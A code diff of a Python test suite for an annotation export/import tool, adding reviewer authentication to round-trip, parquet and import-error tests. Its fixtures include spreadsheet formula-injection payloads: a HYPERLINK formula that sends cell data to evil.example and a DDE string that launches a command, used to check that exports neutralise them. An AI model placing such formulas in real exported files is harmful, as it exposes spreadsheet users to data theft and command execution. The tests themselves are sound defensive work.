@@ -8,6 +8,7 @@ import shutil
 import pandas as pd
 import pytest
 
+from medviz import auth
 from medviz.annotations import Annotation, close_writer, current_annotations, get_writer
 from medviz.cli import main
 from medviz.errors import MedvizError
@@ -23,6 +24,7 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
 TRICKY = [HYPERLINK, "+1 then", "-2 minus", "@SUM(A1)", "\tTab first", "\rCR first", "'=already quoted",
           "''+two quotes", "plain, with commas", 'quotes "inside"\nand a\nnewline', "Ünïcödé – 肺 ✓",
           "'just quote"]
+OWNER = auth.file_owner()           # restoring an export keeps its authors: the file's owner (an admin) imports
 
 
 @pytest.fixture(scope="module")
@@ -44,13 +46,14 @@ def annotated(demo_file, tmp_path):
     for k, text in enumerate(TRICKY):
         pid = f"s00{1 + k % 8}"
         a = w.save(Annotation(MC, "pair", pid, [IGNORED, DETAIL] if k % 3 == 0 else [IGNORED], f"rev {k % 3}",
-                              model=BLIND if k % 2 else None, rationale=text, confidence=1 + k % 5))
+                              model=BLIND if k % 2 else None, rationale=text, confidence=1 + k % 5),
+                   auth.local(f"rev {k % 3}"))
         if k % 4 == 0:
-            w.save(a.edit(rationale=text + " (edited)"))
+            w.save(a.edit(rationale=text + " (edited)"), auth.local(f"rev {k % 3}"))
     w.save(Annotation(GMAI, "item", "3", ["Answer key disputed"], "=cmd|' /C calc'!A0", proposed_answer="-C",
-                      rationale="key", confidence=5))
-    gone = w.save(Annotation(GMAI, "item", "4", ["Refusal"], "rev 1"))
-    w.retract(gone.annotation_id, "rev 1")
+                      rationale="key", confidence=5), auth.local("=cmd|' /C calc'!A0"))
+    gone = w.save(Annotation(GMAI, "item", "4", ["Refusal"], "rev 1"), auth.local("rev 1"))
+    w.retract(gone.annotation_id, auth.local("rev 1"))
     yield s
     close_writer(s)
     s.close()
@@ -107,7 +110,7 @@ def test_round_trip_export_import_export_is_identical(annotated, demo_file, tmp_
     export_annotations(annotated, str(first))
     back = Store(_copy(demo_file, tmp_path, "back.duckdb"))       # same benchmarks, no annotations
     try:
-        n = import_annotations(back, str(first))
+        n = import_annotations(back, str(first), by=OWNER)
         assert n == len(current_annotations(annotated))
         second = export_annotations(back)
         assert second == first.read_bytes()
@@ -119,7 +122,7 @@ def test_round_trip_export_import_export_is_identical(annotated, demo_file, tmp_
         pd.testing.assert_frame_equal(a, b)
         # importing the same file again adds nothing and says why
         with pytest.raises(MedvizError, match="already in the database"):
-            import_annotations(back, str(first))
+            import_annotations(back, str(first), by=OWNER)
         assert len(current_annotations(back)) == n
     finally:
         close_writer(back)
@@ -130,7 +133,7 @@ def test_round_trip_into_an_empty_database_keeps_annotation_columns(annotated, t
     first = tmp_path / "first.csv"
     export_annotations(annotated, str(first))
     with Store(str(tmp_path / "empty.duckdb")) as empty:
-        import_annotations(empty, str(first))
+        import_annotations(empty, str(first), by=OWNER)
         again = read_export_bytes(export_annotations(empty))
         close_writer(empty)
     orig = read_export(str(first))
@@ -144,7 +147,7 @@ def test_parquet_round_trip_and_filters(annotated, demo_file, tmp_path):
     assert "+1 then" in set(df["rationale"])              # parquet is not a spreadsheet: text kept as is
     back = Store(_copy(demo_file, tmp_path, "back.duckdb"))
     try:
-        import_annotations(back, str(out))
+        import_annotations(back, str(out), by=OWNER)
         assert export_annotations(back, fmt="parquet") == out.read_bytes()
     finally:
         close_writer(back)
@@ -168,21 +171,21 @@ def test_import_errors_name_file_row_and_field(annotated, tmp_path):
     bad.to_csv(p, index=False, lineterminator="\r\n")
     with Store(str(tmp_path / "e.duckdb")) as s:
         with pytest.raises(MedvizError) as e:
-            import_annotations(s, str(p))
+            import_annotations(s, str(p), by=OWNER)
         assert "bad.csv" in str(e.value) and e.value.field == "confidence"
         bad = df.copy()
         bad.loc[1, "reviewer"] = "someone else"                  # rows of one annotation must agree
         bad.to_csv(p, index=False, lineterminator="\r\n")
         if (df["annotation_id"] == df.loc[1, "annotation_id"]).sum() > 1:
             with pytest.raises(MedvizError, match="disagree on 'reviewer'"):
-                import_annotations(s, str(p))
+                import_annotations(s, str(p), by=OWNER)
         bad = df.copy()
         bad.loc[0, "tag"] = "Not a tag"
         bad.to_csv(p, index=False, lineterminator="\r\n")
         with pytest.raises(MedvizError, match="unknown tag"):
-            import_annotations(s, str(p))
+            import_annotations(s, str(p), by=OWNER)
         with pytest.raises(MedvizError, match="missing column"):
-            pd.DataFrame({"x": [1]}).to_csv(p, index=False) or import_annotations(s, str(p))
+            pd.DataFrame({"x": [1]}).to_csv(p, index=False) or import_annotations(s, str(p), by=OWNER)
         assert current_annotations(s).empty                     # all or nothing
         close_writer(s)
 
@@ -208,7 +211,7 @@ def test_leading_nul_is_neutralised_in_sql_and_undone_on_import(demo_file, tmp_p
     s = Store(_copy(demo_file, tmp_path, "nul.duckdb"))
     try:
         w = get_writer(s)
-        w.save(Annotation(MC, "pair", "s001", [IGNORED], "rev", rationale="\x00=1+1", confidence=2))
+        w.save(Annotation(MC, "pair", "s001", [IGNORED], "rev", rationale="\x00=1+1", confidence=2), auth.local("rev"))
         data = export_annotations(s)
         body = list(csv.reader(io.StringIO(data.decode("utf-8"))))
         rationale = body[1][body[0].index("rationale")]
